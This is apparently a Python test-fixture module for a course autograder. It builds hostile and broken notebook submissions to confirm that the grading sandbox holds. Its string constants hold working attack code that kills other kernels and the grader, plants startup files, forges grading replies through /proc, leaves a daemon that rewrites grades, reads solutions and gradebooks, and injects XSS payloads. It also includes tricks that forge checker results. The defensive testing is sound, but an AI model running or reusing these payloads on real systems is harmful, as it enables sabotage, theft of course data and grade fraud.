"""The corpus of broken and hostile submissions, built from the course's own notebooks.

Each case starts from an assignment's solution (or its blank release) and
changes it the way a student, by accident or on purpose, might: hanging
code, a kernel that dies, floods, forks, tampering with the checks, mangled
cells, files that are not notebooks. Each records the score an instructor
would give and why. Building the cases from the current notebooks keeps them
valid as the notebooks change.

The attacks go for the machine they run on (other kernels, the grader, the
course's files): grade this corpus only in the sandboxes, never with
``--unsandboxed``.

    python autograder/corpus.py SUBMISSIONS   # write every case as a student folder

tests/test_hostile.py grades the whole corpus in one `netcourse grade` run and
checks every score, reason and time bound against what is recorded here.
"""

from __future__ import annotations

import copy
import sys
import tempfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import nbformat
from nbformat.v4 import new_code_cell

ROOT = Path(__file__).resolve().parents[1]
FULL = "full"
Edit = Callable[[nbformat.NotebookNode], None]


@dataclass(frozen=True)
class Case:
    """One submission: how it is made, what it should score, and why."""

    name: str
    assignment: str
    why: str
    score: float | str  # points, or FULL for the assignment's maximum
    edits: tuple[Edit, ...] = ()
    base: str = "solutions"  # or "notebooks" (the blank release)
    reason: str | None = None  # a phrase the grader's one-line reason must contain
    raw: bytes | None = None  # the file's bytes instead of a notebook
    empty: bool = False  # the student's folder holds nothing
    options: dict = field(default_factory=dict)
    # The score is the student's own checks forged in their own kernel, which
    # cannot be prevented: the submission must be flagged for review.
    forged: bool = False
    review: str | None = None  # a phrase one of its review notes must contain


def _gid(cell) -> str | None:
    return cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")


def _index(nb, grade_id: str) -> int:
    return next(i for i, cell in enumerate(nb.cells) if _gid(cell) == grade_id)


def after(grade_id: str, source: str) -> Edit:
    """Insert a code cell of the student's after the cell ``grade_id``."""
    return lambda nb: nb.cells.insert(_index(nb, grade_id) + 1, new_code_cell(source))


def at_end(source: str) -> Edit:
    return lambda nb: nb.cells.append(new_code_cell(source))


def answer(grade_id: str, source: str) -> Edit:
    """Replace the body of an answer cell."""

    def edit(nb) -> None:
        nb.cells[_index(nb, grade_id)].source = source

    return edit


def replace_in(grade_id: str, old: str, new: str) -> Edit:
    """Change one passage of a cell, as a student's slip would."""

    def edit(nb) -> None:
        cell = nb.cells[_index(nb, grade_id)]
        if old not in cell.source:
            raise ValueError(f"{grade_id} no longer contains {old!r}: update the corpus")
        cell.source = cell.source.replace(old, new)

    return edit


def delete(grade_id: str) -> Edit:
    return lambda nb: nb.cells.pop(_index(nb, grade_id))


def duplicate(grade_id: str) -> Edit:
    """Copy a cell as JupyterLab's copy and paste does: same content, a new cell id."""

    def edit(nb) -> None:
        i = _index(nb, grade_id)
        twin = copy.deepcopy(nb.cells[i])
        twin["id"] = f"{twin['id']}-copy"
        nb.cells.insert(i + 1, twin)

    return edit


def move_before(grade_id: str, other: str) -> Edit:
    def edit(nb) -> None:
        cell = nb.cells.pop(_index(nb, grade_id))
        nb.cells.insert(_index(nb, other), cell)

    return edit


def rename_grade_ids(prefix: str) -> Edit:
    def edit(nb) -> None:
        for cell in nb.cells:
            if _gid(cell):
                cell.metadata["nbgrader"]["grade_id"] = prefix + _gid(cell)

    return edit


# 00-welcome -------------------------------------------------------------------

W = "00-welcome"
WRONG_FRAME_LINE = "def frame_line(text):\n    return text + '\\n'  # a str, not bytes\n"
FAKE_REPORT = (
    "class _Passing:\n"
    "    def require(self, *ids):\n        pass\n"
    "    def __str__(self):\n        return 'all passed'\n"
)
SWALLOW = (
    "import time\nwhile True:\n    try:\n        time.sleep(1000)\n"
    "    except KeyboardInterrupt:\n        pass\n"
)

WELCOME = [
    Case("correct", W, "the reference solution", FULL),
    Case("blank", W, "the release, untouched: nothing attempted", 0, base="notebooks"),
    Case(
        "answer-cell-hangs",
        W,
        "the answer cell sleeps forever after defining a correct function: the cell is "
        "interrupted at the cell timeout and the checks still run",
        FULL,
        edits=(after("frame-line", "import time\ntime.sleep(10**6)"),),
    ),
    Case(
        "swallows-interrupt",
        W,
        "a cell that swallows KeyboardInterrupt wedges the kernel: the checks after it never "
        "run, the notebook's time budget ends grading, earlier cells keep their scores",
        0,
        edits=(after("frame-line", SWALLOW),),
    ),
    Case(
        "sys-exit",
        W,
        "sys.exit() only ends its cell",
        FULL,
        edits=(after("frame-line", "import sys\nsys.exit(1)"),),
    ),
    Case(
        "os-exit",
        W,
        "os._exit() in the kernel is refused while grading, so the kernel lives on",
        FULL,
        edits=(after("frame-line", "import os\nos._exit(1)"),),
    ),
    Case(
        "kernel-killed-early",
        W,
        "the kernel kills itself before the checks: they cannot run",
        0,
        edits=(after("frame-line", "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)"),),
    ),
    Case(
        "kernel-killed-late",
        W,
        "the kernel kills itself after the checks: the points earned stay",
        FULL,
        edits=(at_end("import os, signal\nos.kill(os.getpid(), signal.SIGKILL)"),),
    ),
    Case(
        "output-flood",
        W,
        "100 MB printed: output is cut to its first lines, grading goes on",
        FULL,
        edits=(after("frame-line", "for _ in range(10**6):\n    print('x' * 99)"),),
    ),
    Case(
        "fixed-ports",
        W,
        "binds fixed ports and keeps them: no check here uses a fixed port",
        FULL,
        edits=(
            after(
                "frame-line",
                "import socket\nheld = []\nfor port in (8000, 8080, 8888):\n    try:\n"
                "        held.append(socket.create_server(('127.0.0.1', port)))\n"
                "    except OSError:\n        pass",
            ),
        ),
    ),
    Case(
        "fork-loop",
        W,
        "forks in an endless loop: the fork budget refuses more, the cell fails, the rest runs",
        FULL,
        edits=(after("frame-line", "import os\nwhile True:\n    os.fork()"),),
    ),
    Case(
        "memory-hog",
        W,
        "allocates without end: MemoryError at the memory limit, the rest runs",
        FULL,
        edits=(
            after(
                "frame-line", "blocks = []\nwhile True:\n    blocks.append(bytearray(50 * 2**20))"
            ),
        ),
    ),
    Case(
        "non-daemon-thread",
        W,
        "leaves a non-daemon thread running: the kernel is stopped after a bounded wait",
        FULL,
        edits=(
            after(
                "frame-line",
                "import threading, time\nthreading.Thread(target=time.sleep, args=(3600,)).start()",
            ),
        ),
    ),
    Case(
        "gevent-patch-all",
        W,
        "gevent.monkey.patch_all() would wedge the kernel: it is refused in that cell only",
        FULL,
        edits=(after("frame-line", "from gevent import monkey\nmonkey.patch_all()"),),
    ),
    Case(
        "replaces-checker",
        W,
        "a wrong answer that replaces the checker and expect_returns: it forges its own "
        "checks (all but the hidden expect_raises), which nothing in its own kernel can stop, "
        "so it is flagged for review",
        1,
        forged=True,
        review="a patch of netcourse",
        edits=(
            answer(
                "frame-line",
                WRONG_FRAME_LINE
                + FAKE_REPORT
                + "nc.checks.warmup.check_frame_line = lambda f: _Passing()\n"
                "nc.checks.expect_returns = lambda *a, **k: None",
            ),
        ),
    ),
    Case(
        "rebinds-names",
        W,
        "a wrong answer that rebinds nc to a fake: nc is bound again before the check",
        0,
        edits=(
            answer(
                "frame-line",
                WRONG_FRAME_LINE + FAKE_REPORT + "class _Fake:\n    class checks:\n"
                "        class warmup:\n"
                "            check_frame_line = staticmethod(lambda f: _Passing())\n"
                "        expect_returns = staticmethod(lambda *a, **k: None)\n"
                "        expect_raises = staticmethod(lambda *a, **k: None)\n"
                "nc = _Fake()",
            ),
        ),
    ),
    Case(
        "rewrites-cells",
        W,
        "a wrong answer that makes IPython run `pass` instead of each later cell: its checks "
        "never run, a forgery of its own, flagged",
        FULL,
        forged=True,
        review="the kernel object",
        edits=(
            answer(
                "frame-line",
                WRONG_FRAME_LINE
                + "get_ipython().input_transformers_post.append(lambda lines: ['pass\\n'])",
            ),
        ),
    ),
    Case(
        "tampers-during-check",
        W,
        "a correct function that disables Report.require when the checker calls it: it "
        "earns its points anyway, and the patch is flagged",
        FULL,
        review="a patch of netcourse",
        edits=(
            answer(
                "frame-line",
                "def frame_line(text):\n"
                "    nc.checks.Report.require = lambda self, *ids: None\n"
                "    if '\\n' in text:\n        raise ValueError(text)\n"
                "    return text.encode('utf-8') + b'\\n'",
            ),
        ),
    ),
    Case(
        "replaces-kernel-execution",
        W,
        "a wrong answer that swaps the grading kernel's execution for IPython's own and fakes "
        "the checker: forged (but for the hidden expect_raises), flagged",
        1,
        forged=True,
        review="the kernel object",
        edits=(
            answer(
                "frame-line",
                WRONG_FRAME_LINE + FAKE_REPORT + "from ipykernel.ipkernel import IPythonKernel\n"
                "type(get_ipython().kernel).do_execute = IPythonKernel.do_execute\n"
                "nc.checks.warmup.check_frame_line = lambda f: _Passing()\n"
                "nc.checks.expect_returns = lambda *a, **k: None",
            ),
        ),
    ),
    Case(
        "edits-package-on-disk",
        W,
        "a wrong answer that rewrites the installed checker on disk (and any copy of it in "
        "the grader's scratch space): the package is read-only in the sandbox",
        0,
        edits=(
            answer(
                "frame-line",
                WRONG_FRAME_LINE + "import glob, pathlib\n"
                "path = pathlib.Path(nc.checks.warmup.__file__)\n"
                "copies = glob.glob('@TMP@/netcourse-grade-*/workers/*/*/netcourse/checks/*.py')\n"
                "for target in [path, *map(pathlib.Path, copies)]:\n"
                "    target.write_text('check_frame_line = lambda f: None\\n')",
            ),
        ),
    ),
    Case(
        "deleted-check-cell",
        W,
        "the first check cell deleted: its point is lost, the other check still runs",
        1,
        edits=(delete("test-frame-line-properties"),),
    ),
    Case(
        "duplicated-cells",
        W,
        "answer and check cells duplicated by accident: graded as if once",
        FULL,
        edits=(duplicate("frame-line"), duplicate("test-frame-line-properties")),
    ),
    Case(
        "reordered-cells",
        W,
        "the check cells moved above the answer: they run before frame_line exists",
        0,
        edits=(
            move_before("test-frame-line-properties", "frame-line"),
            move_before("test-frame-line-cases", "frame-line"),
        ),
    ),
    Case(
        "corrupt-json",
        W,
        "the file is cut short: not a notebook",
        0,
        reason="not valid JSON",
        raw=b'{"cells": [{"cell_type": ',
    ),
    Case(
        "another-assignment",
        W,
        "a notebook whose cells belong to another assignment",
        0,
        reason="another assignment",
        edits=(rename_grade_ids("other-"),),
    ),
    Case(
        "empty-folder",
        W,
        "an assignment folder with nothing in it",
        0,
        reason="nothing to grade",
        empty=True,
    ),
]

# Attacks on the grader and on other students (issue 11) ------------------------
#
# Each is the correct solution (or the blank release) plus code that goes for
# something outside its own kernel. Paths are filled in when the corpus is
# built: @SUBMISSIONS@ (the folder being graded), @OUTPUTS@ (where the grade
# run writes, its parent), @COURSE@ (the course root) and @TMP@ (the grader's
# temporary folder). Sandboxed, none of it is visible; every case scores what
# its honest code earns and no other student's score moves.

DISPLAYS = "def frame_line(text):\n    import sys; sys.displayhook('graded')\n"
KILL_KERNELS = """\
import os, signal
for pid in filter(str.isdigit, os.listdir('/proc')):
    if int(pid) in (os.getpid(), 1):
        continue
    try:
        cmdline = open(f'/proc/{pid}/cmdline', 'rb').read()
        if b'netcourse.grading' in cmdline:
            os.kill(int(pid), signal.SIGKILL)
    except OSError:
        pass
"""
KILL_GRADER = """\
import os, signal
pid = os.getpid()
for _ in range(6):  # the parent, the grandparent, ... up to the grader
    try:
        pid = int(open(f'/proc/{pid}/stat').read().rsplit(')', 1)[1].split()[1])
    except (OSError, ValueError, IndexError):
        break
    if pid <= 1:  # no parent it can see (0 would be its own process group)
        break
    os.kill(pid, signal.SIGKILL)
try:
    os.kill(os.getppid(), signal.SIGKILL)
except OSError:
    pass
"""
DRIVE_KERNELS = """\
import glob, os
from jupyter_client import BlockingKernelClient
files = glob.glob('@TMP@/netcourse-grade-*/workers/*/kernels/*/run/kernel.json')
files += glob.glob('@TMP@/**/kernel-*.json', recursive=True)
for pid in filter(str.isdigit, os.listdir('/proc')):
    try:
        args = open(f'/proc/{pid}/cmdline', 'rb').read().decode().split('\\0')
        files += [args[args.index('-f') + 1]] if '-f' in args else []
    except (OSError, ValueError, IndexError):
        pass
for path in set(files) - {get_ipython().kernel.connection_file}:
    try:
        client = BlockingKernelClient(connection_file=path)
        client.load_connection_file()
        client.start_channels()
        client.execute("import os; os.kill(os.getpid(), 9)")
        client.stop_channels()
    except Exception:
        pass
"""
PLANT = """\
import glob, pathlib
evil = "import os; os.kill(os.getpid(), 9)\\n"
for folder in glob.glob('@TMP@/netcourse-grade-*/workers/*/ipython/profile_default'):
    (pathlib.Path(folder) / 'startup').mkdir(exist_ok=True)
    (pathlib.Path(folder) / 'startup' / '00-evil.py').write_text(evil)
for folder in glob.glob('@TMP@/netcourse-grade-*/base/solutions/*'):
    (pathlib.Path(folder) / 'netcourse').mkdir(exist_ok=True)
    (pathlib.Path(folder) / 'netcourse' / '__init__.py').write_text(evil)
for config in glob.glob('@TMP@/netcourse-grade-*/**/nbgrader_config.py', recursive=True):
    with open(config, 'a') as stream:
        stream.write('\\nc.Autograde.autograde_preprocessors = []\\n')
"""
FORGE_REPLY = """\
import json, os
reply = json.dumps({"type": "Autograded", "scores": {"score": 2.0, "cells": {}},
                    "error": None, "feedback": True, "overruled": {}}) + "\\n"
for pid in filter(str.isdigit, os.listdir('/proc')):
    try:
        if b'nbgrader_worker' not in open(f'/proc/{pid}/cmdline', 'rb').read():
            continue
        for fd in os.listdir(f'/proc/{pid}/fd'):
            try:
                with open(f'/proc/{pid}/fd/{fd}', 'w') as stream:
                    stream.write(reply)
            except OSError:
                pass
    except OSError:
        pass
"""
DAEMON = """\
import glob, os, time
deadline = time.time() + 600
while time.time() < deadline:
    for cgroup in ('/sys/fs/cgroup/pids/cgroup.procs', '/sys/fs/cgroup/cgroup.procs'):
        try:
            open(cgroup, 'w').write(str(os.getpid()))
        except OSError:
            pass
    targets = glob.glob('@OUTPUTS@/grades.*') + glob.glob('@OUTPUTS@/fb/*/*/*.html')
    targets += glob.glob('@SUBMISSIONS@/correct/*/*.ipynb')
    for target in targets:
        try:
            with open(target, 'a') as stream:
                stream.write('forged by a daemon')
        except OSError:
            pass
    time.sleep(0.5)
"""
LEAVE_DAEMON = f"""\
import os, sys
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, '-c', {DAEMON!r}, 'netcourse-hostile-daemon'])
    os._exit(0)
"""
READ_SECRETS = """\
import glob
seen = []
patterns = ['@COURSE@/solutions/*/*.ipynb', '@COURSE@/gradebook.db',
            '@TMP@/netcourse-grade-*/base/solutions/*/*.ipynb',
            '@TMP@/netcourse-grade-*/**/gradebook.db', '@SUBMISSIONS@/*/*/*.ipynb']
for pattern in patterns:
    for path in glob.glob(pattern, recursive=True):
        try:
            seen.append(open(path, 'rb').read()[:100000].decode('utf-8', 'replace'))
        except OSError:
            pass
print(len(seen), 'files read')
print('\\n'.join(seen))
"""
FILL_FEEDBACK = """\
import os
for i in range(6):  # 60 MiB in the working folder, which nbgrader's folders once were
    with open(f'bulk-{i}.bin', 'wb') as stream:
        stream.write(os.urandom(10 * 2**20))
os.symlink('/etc/passwd', 'passwd-link')
"""
PRINTS_ARGUMENTS = (
    "def frame_line(text):\n"
    "    print('called with', repr(text))\n"
    "    if '\\n' in text:\n        raise ValueError(text)\n"
    "    return text.encode('utf-8') + b'\\n'\n"
)
PRINT_HISTORY = "print(In)\nprint(_ih[-3])\nprint(get_ipython().user_ns.get('_i3'))"
ACTIVE_MARKDOWN = (
    "<script>alert('PWNED')</script><img src=x onerror=\"alert('PWNED')\">\n"
    '<iframe src="https://example.com/PWNED"></iframe>'
    '<form action="https://example.com/PWNED"><input name=q></form>\n\n'
    "[click](javascript:alert('PWNED')) <a href=\"javascript:alert('PWNED')\">here</a>"
)
ACTIVE_OUTPUT = """\
from IPython.display import HTML, Javascript, SVG, Markdown, display
display(HTML("<script>alert('PWNED')</script><b onclick=\\"alert('PWNED')\\">bold</b>"))
display(HTML("<script>alert('PWNED')</script>"), metadata={"isolated": True})
display(Javascript("alert('PWNED')"))
display(Markdown("<img src=x onerror=\\"alert('PWNED')\\">"))
svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
display(SVG(svg))
print("<script>alert('PWNED')</script>")
"""
FRAME_WALK = """\
def frame_line(text):
    import sys
    for frame in list(sys._current_frames().values()):
        while frame is not None:
            expected = frame.f_locals.get('expected')
            if isinstance(expected, bytes):
                return expected  # the checker's own expected value
            frame = frame.f_back
    if '\\n' in text:
        raise ValueError(text)
    return b'wrong'
"""
ALWAYS_EQUAL = """\
class _Yes(bytes):
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    __hash__ = bytes.__hash__

def frame_line(text):
    if '\\n' in text:
        raise ValueError(text)
    return _Yes(b'wrong')
"""
AUDIT_HOOK = (
    FAKE_REPORT
    + """\
import sys
def _hook(event, args):
    if event == 'exec':
        nc.checks.warmup.check_frame_line = lambda f: _Passing()
        nc.checks.expect_returns = lambda *a, **k: None
sys.addaudithook(_hook)
"""
)

ATTACKS = [
    Case(
        "displayhook",
        W,
        "frame_line displays a value when the checker calls it (nbgrader alone gave that 2/2): "
        "a test cell showing anything but its report scores 0",
        0,
        review="the displayhook",
        edits=(answer("frame-line", DISPLAYS),),
    ),
    Case(
        "kills-other-kernels",
        W,
        "a correct answer that SIGKILLs every kernel and worker it can find: in its own PID "
        "namespace it finds none",
        FULL,
        review="signals to other processes",
        edits=(after("frame-line", KILL_KERNELS),),
    ),
    Case(
        "kills-the-grader",
        W,
        "a correct answer that SIGKILLs its parents up to the grader: its parent is the "
        "sandbox's init, which ignores it, and nothing outside can be seen",
        FULL,
        review="signals to other processes",
        edits=(after("frame-line", KILL_GRADER),),
    ),
    Case(
        "drives-other-kernels",
        W,
        "a correct answer that finds other kernels' connection files and tells them to die: "
        "no other kernel's files or sockets are visible",
        FULL,
        review="the kernel object",
        edits=(after("frame-line", DRIVE_KERNELS),),
    ),
    Case(
        "plants-startup-code",
        W,
        "a correct answer that plants code for later students: an IPython startup file in the "
        "workers' profiles, a netcourse package in the shared sources, lines appended to "
        "nbgrader_config.py; none of those folders is visible",
        FULL,
        edits=(after("frame-line", PLANT),),
    ),
    Case(
        "forges-a-reply",
        W,
        "the blank release, writing a forged 2/2 reply into the grading worker's pipes "
        "through /proc: no worker is visible",
        0,
        base="notebooks",
        review="/proc",
        edits=(after("frame-line", FORGE_REPLY),),
    ),
    Case(
        "leaves-a-daemon",
        W,
        "the blank release, leaving a daemon that tries to leave its control group and keeps "
        "rewriting grades, feedback and another student's submission: it dies with its sandbox",
        0,
        base="notebooks",
        review="/proc",
        edits=(after("frame-line", LEAVE_DAEMON),),
    ),
    Case(
        "reads-secrets",
        W,
        "a correct answer that prints the solutions, the gradebooks and other students' "
        "submissions: none of them is visible",
        FULL,
        edits=(after("frame-line", READ_SECRETS),),
    ),
    Case(
        "fills-feedback",
        W,
        "a correct answer that writes 60 MiB into its working folder: only the feedback page "
        "goes back",
        FULL,
        edits=(after("frame-line", FILL_FEEDBACK),),
    ),
    Case(
        "prints-arguments",
        W,
        "a correct frame_line that prints its arguments: what a check's call prints is "
        "dropped, so no hidden input reaches the feedback",
        FULL,
        edits=(answer("frame-line", PRINTS_ARGUMENTS),),
    ),
    Case(
        "prints-history",
        W,
        "a correct answer whose last cell prints the kernel's input history, hidden tests "
        "included: those lines are redacted from the feedback",
        FULL,
        review="the input history",
        edits=(at_end(PRINT_HISTORY),),
    ),
    Case(
        "active-html",
        W,
        "a correct answer with scripts, event handlers, an iframe and a form in its markdown "
        "and outputs: the feedback shows none of them live",
        FULL,
        review="the kernel object",
        edits=(
            lambda nb: nb.cells.insert(1, nbformat.v4.new_markdown_cell(ACTIVE_MARKDOWN)),
            after("frame-line", ACTIVE_OUTPUT),
        ),
    ),
    Case(
        "reads-expected-from-frames",
        W,
        "a wrong frame_line that returns the expected value it finds in the checker's frames: "
        "a forgery of its own checks, flagged",
        1,
        forged=True,
        review="frame inspection",
        edits=(answer("frame-line", FRAME_WALK),),
    ),
    Case(
        "always-equal-bytes",
        W,
        "a wrong frame_line that returns a bytes whose == is always true",
        1,
        forged=True,
        review="whose __eq__ is its own",
        edits=(answer("frame-line", ALWAYS_EQUAL),),
    ),
    Case(
        "audit-hook",
        W,
        "a wrong answer whose audit hook puts a fake checker back before every cell: "
        "forged (but for the hidden expect_raises), flagged",
        1,
        forged=True,
        review="an audit hook",
        edits=(answer("frame-line", WRONG_FRAME_LINE + AUDIT_HOOK),),
    ),
]

# 02-tcp-sockets -----------------------------------------------------------------

T = "02-tcp-sockets"
# 9 points: recv_exactly 2, length-prefixed messages 2, echo server 3, UDP echo 2
IGNORES_STOP = (
    "def serve(listener, stop):\n"
    "    while True:  # never looks at stop\n"
    "        conn, _ = listener.accept()\n"
    "        with conn:\n"
    "            try:\n"
    "                while data := conn.recv(65536):\n"
    "                    conn.sendall(data)\n"
    "            except ConnectionError:\n"
    "                pass\n"
)
ONE_RECV = (
    "def serve(listener, stop):\n"
    "    while not stop.is_set():\n"
    "        conn, _ = listener.accept()\n"
    "        with conn:\n"
    "            conn.sendall(conn.recv(1024))\n"
)

TCP_SOCKETS = [
    Case("tcp-correct", T, "the reference solution", FULL),
    Case("tcp-blank", T, "the release, untouched: nothing attempted", 0, base="notebooks"),
    Case(
        "tcp-server-never-returns",
        T,
        "an echo server that never looks at stop: the checker gives up on it within its "
        "deadline, the two echo-server cells score 0, the rest runs",
        6,
        edits=(answer("blocking-echo-server", IGNORES_STOP),),
    ),
    Case(
        "tcp-server-run-in-a-cell",
        T,
        "the student runs the server in a cell of their own, which blocks in accept(): the "
        "cell is interrupted at the cell timeout and the checks still run",
        FULL,
        edits=(
            after(
                "blocking-echo-server",
                "listener = socket.create_server(('127.0.0.1', 0))\n"
                "serve(listener, threading.Event())",
            ),
        ),
    ),
    Case(
        "tcp-patches-socket",
        T,
        "a correct server, and socket patched so that no timeout can be set: the UDP "
        "checks, which wait on socket timeouts, fail; the patch harms only its own grade "
        "and is flagged",
        7,
        review="a patch of socket",
        edits=(
            after(
                "blocking-echo-server",
                "socket.socket.settimeout = lambda self, value: None\n"
                "socket.setdefaulttimeout = lambda value: None",
            ),
        ),
    ),
    Case(
        "tcp-displayhook",
        T,
        "recv_exactly displays a value when the checker calls it: its two cells and the two of "
        "the messages built on it score 0, whatever nbgrader's rule says",
        5,
        review="the displayhook",
        edits=(
            answer(
                "recv-exactly",
                "def recv_exactly(sock, n):\n    import sys; sys.displayhook('graded')\n",
            ),
        ),
    ),
    Case(
        "tcp-course-server",
        T,
        "the server handed in is the one the course's package ships for notebook 07: it "
        "works, so it scores, and the review names it for the instructor",
        FULL,
        review="the course's own server, nc.contenders",
        edits=(
            answer(
                "blocking-echo-server",
                "def serve(listener, stop):\n    nc.contenders.serve_blocking(listener, stop)\n",
            ),
        ),
    ),
    Case(
        "tcp-replaces-checker",
        T,
        "a server that echoes one recv(1024) and a fake echo checker: forged, flagged",
        FULL,
        forged=True,
        review="a patch of netcourse",
        edits=(
            answer(
                "blocking-echo-server",
                ONE_RECV + FAKE_REPORT + "nc.checks.echo.check_server = lambda *a, **k: _Passing()",
            ),
        ),
    ),
]

# 05-queues-and-pools ------------------------------------------------------------

Q = "05-queues-and-pools"
# 19 points: queue 7, pool 5, pipeline 4, echo server on a pool 3

QUEUES_AND_POOLS = [
    Case("queues-correct", Q, "the reference solution", FULL),
    Case("queues-blank", Q, "the release, untouched: nothing attempted", 0, base="notebooks"),
    Case(
        "queues-get-never-woken",
        Q,
        "put() forgets to notify a waiting get(): the two queue cells whose checks wait for a "
        "get() to be woken (4 points) fail within their deadlines; timeouts (a get that times "
        "out needs no wake-up), task_done and shutdown, which notify on their own, and the "
        "pool, pipeline and echo server keep their points",
        15,
        edits=(
            replace_in(
                "queue",
                "            self._not_empty.notify()\n",
                "            pass  # forgot to wake a waiting get()\n",
            ),
        ),
    ),
    Case(
        "queues-pool-never-stops",
        Q,
        "shutdown() that never tells the workers to stop (no sentinels), so joining them never "
        "ends, and they are not daemons: the two "
        "cells whose checks shut a pool down (3 points) fail within their deadlines, and the "
        "kernel, kept alive by those threads, is stopped after a bounded wait",
        16,
        edits=(
            replace_in("pool", "daemon=True", "daemon=False"),
            replace_in(
                "pool",
                "self._tasks.put(None)  # one sentinel per worker, after every task\n",
                "pass  # the workers will notice... never\n",
            ),
        ),
    ),
    Case(
        "queues-replaces-checker",
        Q,
        "a pool that runs each task inline, and a fake pool checker: the pool's tasks and "
        "shutdown checks (which it does not fake) still catch it, the rest is forged, flagged",
        16,
        forged=True,
        review="a patch of netcourse",
        edits=(
            after(
                "pool",
                FAKE_REPORT + "class Pool(Executor):\n"
                "    def __init__(self, max_workers):\n        pass\n"
                "    def submit(self, fn, /, *args, **kwargs):\n"
                "        future = Future()\n"
                "        future.set_result(fn(*args, **kwargs))\n"
                "        return future\n"
                "nc.checks.pools.check_pool = lambda *a, **k: _Passing()",
            ),
        ),
    ),
]

CASES = WELCOME + ATTACKS + TCP_SOCKETS + QUEUES_AND_POOLS


def _fill_in(notebook: nbformat.NotebookNode, places: dict[str, str]) -> None:
    """Put the real paths into the attacks' cells."""
    for cell in notebook.cells:
        for marker, path in places.items():
            cell.source = cell.source.replace(marker, path)


def build(cases: list[Case], submissions: Path, root: Path = ROOT, tmp: str | None = None) -> None:
    """Write each case as ``submissions/<case>/<assignment>/<assignment>.ipynb``.

    ``tmp`` is the temporary folder the grader will use (default: this process's).
    """
    submissions = submissions.resolve()
    places = {
        "@SUBMISSIONS@": str(submissions),
        "@OUTPUTS@": str(submissions.parent),
        "@COURSE@": str(root.resolve()),
        "@TMP@": tmp or tempfile.gettempdir(),
    }
    for case in cases:
        folder = submissions / case.name / case.assignment
        folder.mkdir(parents=True, exist_ok=True)
        if case.empty:
            continue
        target = folder / f"{case.assignment}.ipynb"
        if case.raw is not None:
            target.write_bytes(case.raw)
            continue
        notebook = nbformat.read(root / case.base / case.assignment / target.name, as_version=4)
        for edit in case.edits:
            edit(notebook)
        _fill_in(notebook, places)
        nbformat.write(notebook, target)


if __name__ == "__main__":
    if len(sys.argv) != 2:
        sys.exit("usage: python autograder/corpus.py SUBMISSIONS")
    build(CASES, Path(sys.argv[1]))
    print(f"{len(CASES)} submissions written to {sys.argv[1]}")
